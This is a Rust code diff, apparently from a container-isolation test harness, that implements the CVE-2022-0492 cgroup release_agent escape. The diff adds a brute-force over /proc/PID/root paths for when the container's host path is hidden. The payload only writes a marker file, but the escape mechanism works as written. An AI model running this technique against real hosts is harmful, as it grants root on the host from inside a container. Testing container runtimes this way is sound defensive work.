@@ -80,19 +80,23 @@ fn cgroup2_mount() -> Option<String> {
 
 /// CVE-2022-0492. Mount a cgroup v1 hierarchy (a named one, as hybrid hosts
 /// have for systemd), set its `release_agent` to a script in our root — named
-/// by its path *on the host*, which our mount table gives away — and
-/// `notify_on_release` on a child cgroup, then let a process leave it empty.
-/// The kernel runs the agent as root, in the host's namespaces. The script
-/// writes `/tincan-release-agent` there: the host looks for it.
+/// by its path *on the host* — and `notify_on_release` on a child cgroup, then
+/// let a process leave it empty. The kernel runs the agent as root, in the
+/// host's namespaces. The script writes `/tincan-release-agent` there, for the
+/// host to find, and `tincan-agent-ran` beside itself, for us.
+///
+/// Our mount table usually gives the path away (see [`host_path_of_root`]).
+/// Where it does not, the host's `/proc/PID/root` leads to our root for our
+/// own PID on the host, which we do not know: try them all, as attackers do.
 pub fn release_agent(marker: &str) -> String {
     if let Err(e) = ensure_proc() {
         return format!("BLOCKED: cannot mount /proc: {e}");
     }
-    let Some(host_root) = host_path_of_root() else {
-        return "BLOCKED: found no path of our root on the host".into();
-    };
+    let root = host_path_of_root();
     let agent = "/tincan-agent";
-    let script = format!("#!/bin/sh\necho {marker} > /tincan-release-agent\n");
+    let script = format!(
+        "#!/bin/sh\necho {marker} > /tincan-release-agent\ntouch \"$(dirname \"$0\")/tincan-agent-ran\"\n"
+    );
     let written = fs::write(agent, script)
         .and_then(|()| fs::set_permissions(agent, fs::Permissions::from_mode(0o755)));
     if let Err(e) = written {
@@ -105,30 +109,16 @@ pub fn release_agent(marker: &str) -> String {
     {
         return format!("BLOCKED: mount a cgroup v1 hierarchy: {e}");
     }
-    let result = (|| {
-        let child = format!("{at}/tincan-{marker}");
-        let _ = fs::create_dir(&child);
-        let write = |file: &str, value: &str| {
-            fs::write(file, value).map_err(|e| format!("write {file}: {e}"))
-        };
-        write(&format!("{at}/release_agent"), &format!("{host_root}{agent}"))?;
-        write(&format!("{child}/notify_on_release"), "1")?;
-        // A process joins the child cgroup and ends: the cgroup is empty.
-        // SAFETY: single-threaded; the child only writes a file and exits.
-        match unsafe { fork() } {
-            Ok(ForkResult::Child) => {
-                let _ = fs::write(format!("{child}/cgroup.procs"), "0");
-                std::process::exit(0);
-            }
-            Ok(ForkResult::Parent { child: pid }) => {
-                let _ = nix::sys::wait::waitpid(pid, None);
-            }
-            Err(e) => return Err(format!("fork: {e}")),
-        }
-        std::thread::sleep(std::time::Duration::from_millis(500));
-        let _ = fs::remove_dir(&child);
-        Ok(format!("TRIED: release_agent is {host_root}{agent}; its cgroup emptied"))
-    })();
+    let child = format!("{at}/tincan-{marker}");
+    let _ = fs::create_dir(&child);
+    let result = match &root {
+        Some(root) => release(at, &child, &format!("{root}{agent}")).map(|()| {
+            std::thread::sleep(std::time::Duration::from_millis(500));
+            format!("TRIED: release_agent is {root}{agent}; its cgroup emptied")
+        }),
+        None => guess_our_pid(at, &child, agent),
+    };
+    let _ = fs::remove_dir(&child);
     let _ = umount(at);
     match result {
         Ok(line) => line,
@@ -136,10 +126,60 @@ pub fn release_agent(marker: &str) -> String {
     }
 }
 
-/// Our root directory's path on the host. An overlay root names its upper
-/// directory (`upperdir=`); a bind-mounted root its directory in the host's
-/// file system (the mount's "root" field). Inside a chroot, our root is no
-/// mount: an attacker climbs out of the chroot first.
+/// Set the release agent to `path` and empty `child`: a process joins it and
+/// ends.
+fn release(at: &str, child: &str, path: &str) -> Result<(), String> {
+    let write =
+        |file: &str, value: &str| fs::write(file, value).map_err(|e| format!("write {file}: {e}"));
+    write(&format!("{at}/release_agent"), path)?;
+    write(&format!("{child}/notify_on_release"), "1")?;
+    // SAFETY: single-threaded; the child only writes a file and exits.
+    match unsafe { fork() } {
+        Ok(ForkResult::Child) => {
+            let _ = fs::write(format!("{child}/cgroup.procs"), "0");
+            std::process::exit(0);
+        }
+        Ok(ForkResult::Parent { child: pid }) => {
+            let _ = nix::sys::wait::waitpid(pid, None);
+            Ok(())
+        }
+        Err(e) => Err(format!("fork: {e}")),
+    }
+}
+
+/// Try `/proc/PID/root/AGENT` for every PID until the agent says it ran (its
+/// file appears in our root), for at most a minute.
+fn guess_our_pid(at: &str, child: &str, agent: &str) -> Result<String, String> {
+    let ran = std::path::Path::new("/tincan-agent-ran");
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
+    let pid_max: u32 = fs::read_to_string("/proc/sys/kernel/pid_max")
+        .ok()
+        .and_then(|m| m.trim().parse().ok())
+        .unwrap_or(32768);
+    for pid in 1..=pid_max {
+        release(at, child, &format!("/proc/{pid}/root{agent}"))?;
+        // The kernel runs the agent from a work queue: let it, before the
+        // next write changes the path it will read.
+        std::thread::sleep(std::time::Duration::from_millis(2));
+        if ran.exists() || std::time::Instant::now() > deadline {
+            break;
+        }
+    }
+    std::thread::sleep(std::time::Duration::from_millis(300));
+    if ran.exists() {
+        let _ = fs::remove_file(ran);
+        Ok("TRIED: our root's host path was hidden; a /proc/PID/root path of the host ran the agent".into())
+    } else {
+        Ok("TRIED: our root's host path was hidden; no /proc/PID/root path ran the agent".into())
+    }
+}
+
+/// Our root directory's path on the host, where the mount table gives it away:
+/// an overlay root names its upper directory (`upperdir=`), a bind-mounted
+/// root its directory in the host's file system (the mount's "root" field).
+/// Inside a chroot, our root is no mount: an attacker climbs out of the chroot
+/// first. `None` if the path is not there (an overlay with a relative
+/// `upperdir`, as chapter 8 mounts it).
 fn host_path_of_root() -> Option<String> {
     let is_root = |line: &&str| line.split(' ').nth(4) == Some("/");
     let mut table = fs::read_to_string("/proc/self/mountinfo").ok()?;
@@ -153,7 +193,8 @@ fn host_path_of_root() -> Option<String> {
     let dash = f.iter().position(|x| *x == "-")?;
     if f.get(dash + 1) == Some(&"overlay") {
         let options = f.get(dash + 3)?;
-        return options.split(',').find_map(|o| o.strip_prefix("upperdir=")).map(str::to_owned);
+        let upper = options.split(',').find_map(|o| o.strip_prefix("upperdir="))?;
+        return upper.starts_with('/').then(|| upper.to_owned());
     }
     Some(f[3].trim_end_matches('/').to_owned())
 }
